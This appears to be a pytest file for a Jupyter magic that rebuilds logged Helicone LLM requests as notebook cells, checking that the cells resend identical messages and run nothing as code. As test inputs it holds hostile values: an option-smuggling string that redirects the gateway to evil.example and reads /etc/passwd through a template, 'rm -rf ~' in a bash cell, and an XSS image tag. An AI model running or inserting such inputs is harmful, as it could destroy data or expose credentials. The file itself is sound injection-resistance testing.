"""`edit`: a request from anywhere becomes a cell that sends the very same one, and nothing in it becomes code."""

from __future__ import annotations

import base64
import time
from collections.abc import Mapping, Sequence
from typing import Any

import pytest
from fake_helicone import HELICONE_KEY, PROVIDER_KEY, FakeHelicone
from fake_logging import Logged
from fake_rest import SESSION_ID, SESSION_NAME, SESSION_PATH
from shells import Shell

from heliconemagic.lines.options import parse_cell_line
from heliconemagic.lines.writing import write_json, write_word
from heliconemagic.render.edited_cell import RecordedRequest, build_edited_cell

ID = "0c4f1f9e-7f1e-4c5f-9a63-0f9c2e6c7a11"
HI = {"role": "user", "content": "hi"}
CALL = {"id": "c1", "type": "function", "function": {"name": "lookup", "arguments": "{}"}}
TOOL = {"type": "function", "function": {"name": "lookup", "parameters": {"type": "object", "properties": {}}}}
EVIL = 'x" --gateway http://evil.example --messages os -s \\" {{ open("/etc/passwd") }}'
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="
IMAGE = {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{DOT}"}}


@pytest.fixture
def online(shell: Shell, helicone: FakeHelicone, monkeypatch: pytest.MonkeyPatch) -> Shell:
    """A shell with a session at the fake."""
    monkeypatch.setenv("OPENAI_API_KEY", PROVIDER_KEY)
    monkeypatch.setenv("HELICONE_API_KEY", HELICONE_KEY)
    shell.run(f'%helicone_session "Debugging" --gateway {helicone.url}')
    return shell


def edit(shell: Shell, helicone: FakeHelicone, body: Mapping[str, Any], path: str = "/triage") -> str:
    """Lets `edit` fetch a request with ``body``; gives the new cell."""
    properties = {SESSION_ID: "desk", SESSION_NAME: "Desk", SESSION_PATH: path}
    now = time.time()
    helicone.rest.own[:] = [
        Logged(id=ID, model="gpt-4o", request=body, response={}, properties=properties, started_at=now, ended_at=now)
    ]
    ran = shell.run(f"%helicone_session edit {ID}")
    assert ran.error is None, ran.error
    return ran.text().split("\n\n", 1)[1]


def write(messages: Sequence[Mapping[str, Any]], **given: Any) -> str:
    """The first line of the cell for ``messages``."""
    request = RecordedRequest(path=given.pop("path", "/a"), model="gpt-4o", messages=messages, parameters=given)
    return build_edited_cell(request, {}).source.partition("\n")[0]


@pytest.mark.parametrize(
    "messages",
    [
        [HI],
        [{"role": "system", "content": 'Say "yes" or C:\\new, it\'s --fresh.'}, HI],
        [{"role": "system", "content": "Two\nlines."}, HI],
        [{"role": "system", "content": "With {{ braces }}."}, HI],
        [{"role": "system", "content": " blanks "}, HI],
        [{"role": "developer", "content": "Be short."}, HI],
        [{"role": "system", "content": "a"}, HI, {"role": "assistant", "content": "b"}, HI],
        [HI, {"role": "assistant", "content": None, "tool_calls": [CALL]},
         {"role": "tool", "tool_call_id": "c1", "content": "found"}, {"role": "user", "content": "so?"}],
        [{"role": "user", "content": "%%bash\nrm -rf ~"}],
        [{"role": "user", "content": "%helicone_session forget all\n!ls\n>>> 1"}],
        [{"role": "user", "content": "{{ secret }} and {% raw %} and ${{ x }}"}],
        [{"role": "user", "content": "ends with a line\n"}],
        [{"role": "user", "content": "\nbegins\r\nwith one, \u202e and turns"}],
        [{"role": "user", "content": EVIL}],
        [{"role": "system", "content": EVIL}, HI],
        [{"role": "system", "content": EVIL.replace("{{", "")}, HI],
        [HI, {"role": "assistant", "content": None, "tool_calls": [CALL]},
         {"role": "tool", "tool_call_id": "c1", "content": "found"}],
        [HI, {"role": "assistant", "content": "Once upon"}],
        [{"role": "user", "content": [{"type": "text", "text": "see"}, IMAGE]}],
        [{"role": "user", "content": "hi", "name": "ada"}],
        [{"role": "user", "content": "x" * 30_000}],
    ],
)  # fmt: skip
def test_new_cell_sends_the_same_messages(online: Shell, helicone: FakeHelicone, messages: list[Any]) -> None:
    """Whatever they are: fetched from Helicone, put into a cell, run, and compared on the wire."""
    source = edit(online, helicone, {"model": "gpt-4o", "messages": messages})
    ran = online.run(source)
    assert ran.error is None, ran.error
    sent = helicone.completions[-1]
    assert sent.json["messages"] == messages
    assert (sent.json["model"], sent.header("helicone-session-path")) == ("gpt-4o", "/triage")
    assert len(helicone.completions) == 1


@pytest.mark.parametrize(
    "parameters",
    [
        {"temperature": 0.7, "max_tokens": 200, "seed": 0},
        {"stop": ["it's", 'a "b"', "{{ x }}"], "metadata": {"a": "5", "b": "--fresh"}, "service_tier": "5"},
        {"tools": [TOOL], "tool_choice": {"type": "function", "function": {"name": "lookup"}}},
        {"response_format": {"type": "json_object"}, "logit_bias": {}, "store": True},
        {"temperature": 0, "reasoning_effort": "true", "top_p": None},
    ],
)
def test_new_cell_sends_the_same_parameters(online: Shell, helicone: FakeHelicone, parameters: dict[str, Any]) -> None:
    """Numbers stay numbers, texts texts, and nothing in them is filled in."""
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": "JSON, please"}], **parameters}
    ran = online.run(edit(online, helicone, body))
    assert ran.error is None, ran.error
    sent = helicone.completions[-1].json
    assert {name: value for name, value in sent.items() if name not in ("stream", "stream_options")} == body


def test_what_no_option_says_is_told() -> None:
    """A parameter with a place of its own, or with a name that none has, is left out and named."""
    request = RecordedRequest(path="/a", model="", messages=[HI], parameters={"user": "u", "a b --fresh": 1, "n": 2})
    cell = build_edited_cell(request, {})
    assert cell.source == "%%llm /a --fresh\nhi"
    assert cell.notes == ("left out, as no option says it: user, a b --fresh, n",)


@pytest.mark.parametrize("path", ["/caf\u00e9", "/a\n%%bash", "/", "nothing", "/{{ x }}", "/" + "x" * 600])
def test_paths_that_cannot_be_sent_are_replaced(path: str) -> None:
    """Another path stands there, and that is said."""
    cell = build_edited_cell(RecordedRequest(path=path, model="gpt-4o", messages=[HI]), {})
    assert cell.source.startswith("%%llm /edited -m gpt-4o --fresh\n")
    assert "cannot be sent from here" in cell.notes[0]


def test_path_with_a_blank_is_quoted() -> None:
    """It stays the path it is."""
    line = write([HI], path="/a b/--fresh")
    assert parse_cell_line(line.removeprefix("%%llm "), is_cell=True).path == "/a b/--fresh"


def test_no_variable_of_the_notebook_is_overwritten() -> None:
    """Another name is found; the same value keeps its name."""
    turns = [{"role": "system", "content": "two\nlines"}]
    request = RecordedRequest(path="/a", model="gpt-4o", messages=[*turns, HI])
    assert list(build_edited_cell(request, {"a_turns": 5}).variables) == ["a_turns_2"]
    assert list(build_edited_cell(request, {"a_turns": turns}).variables) == ["a_turns"]


def test_words_are_read_back_or_refused() -> None:
    """What a line cannot hold is not written on it."""
    assert [write_word(text) for text in ("", "a\nb", " a", "{{ x }}", "a\u202eb")] == [None] * 5
    assert write_word("a'b\"c\\") == '"a\'b\\"c\\\\"'
    assert (write_json(float("nan")), write_json({"a": "'{{"})) == (None, '\'{"a": "\\u0027{\\u007b"}\'')


def test_own_step_and_pulled_step_are_edited_by_path(online: Shell, helicone: FakeHelicone) -> None:
    """A step of the open session, and, where that has none there, one of the session pulled last."""
    online.run("%%llm /own -m gpt-4o-mini -t 0.3\nmine")
    shown = online.run("%helicone_session edit /own").text()
    assert shown.endswith("\n\n%%llm /own -m gpt-4o-mini -t 0.3 --fresh\nmine")
    edit(online, helicone, {"model": "gpt-4o", "messages": [HI]}, "/elsewhere")
    online.run("%helicone_session pull desk")
    assert "%%llm /elsewhere -m gpt-4o --fresh\nhi" in online.run("%helicone_session edit /elsewhere").text()
    assert "%%llm /elsewhere" in online.run("%helicone_session edit /elsewhere desk").text()


def test_attached_image_is_sent_again(online: Shell, helicone: FakeHelicone, tmp_path: Any) -> None:
    """The journal has its bytes."""
    (tmp_path / "dot.png").write_bytes(base64.b64decode(DOT))
    online.run(f"%%llm /look -m gpt-4o-mini -a {tmp_path / 'dot.png'}\nsee")
    before = helicone.completions[-1].json["messages"]
    ran = online.run(online.run("%helicone_session edit /look").text().split("\n\n", 1)[1])
    assert ran.error is None, ran.error
    assert helicone.completions[-1].json["messages"] == before


def test_html_of_a_hostile_request_is_text(online: Shell, helicone: FakeHelicone) -> None:
    """Its source is there to be copied, escaped."""
    edit(online, helicone, {"model": "<b>m", "messages": [{"role": "user", "content": "<img src=x onerror=y>"}]})
    page = online.run(f"%helicone_session edit {ID}").shown[-1]["text/html"]
    assert "<img" not in page and "&lt;img src=x onerror=y&gt;" in page and "<b>m" not in page


def test_session_options_that_come_on_top_are_told(online: Shell, helicone: FakeHelicone) -> None:
    """The session's own parameters would be sent as well, but for a client's request."""
    online.run(f'%helicone_session "Debugging" --gateway {helicone.url} -t 0.1')
    edit(online, helicone, {"model": "gpt-4o", "messages": [HI]})
    assert "on top: temperature" in online.run(f"%helicone_session edit {ID}").text()
    edit(online, helicone, {"model": "gpt-4o", "messages": [HI, {"role": "assistant", "content": "Once upon"}]})
    assert "on top" not in online.run(f"%helicone_session edit {ID}").text()


@pytest.mark.parametrize(
    "messages",
    [
        [HI],
        [{"role": "system", "content": "Long."}, HI],
        [{"role": "system", "content": "Short."}, HI, {"role": "assistant", "content": "b"}, HI],
        [HI, {"role": "assistant", "content": "b"}, HI],
    ],
)
def test_system_prompt_of_the_session_is_kept_out(online: Shell, helicone: FakeHelicone, messages: list[Any]) -> None:
    """A new cell sends the same messages in a session with a system prompt, too, be it the very same one."""
    online.run(f'%helicone_session "Debugging" --gateway {helicone.url} -s Short.')
    ran = online.run(edit(online, helicone, {"model": "gpt-4o", "messages": messages}))
    assert ran.error is None, ran.error
    assert helicone.completions[-1].json["messages"] == messages
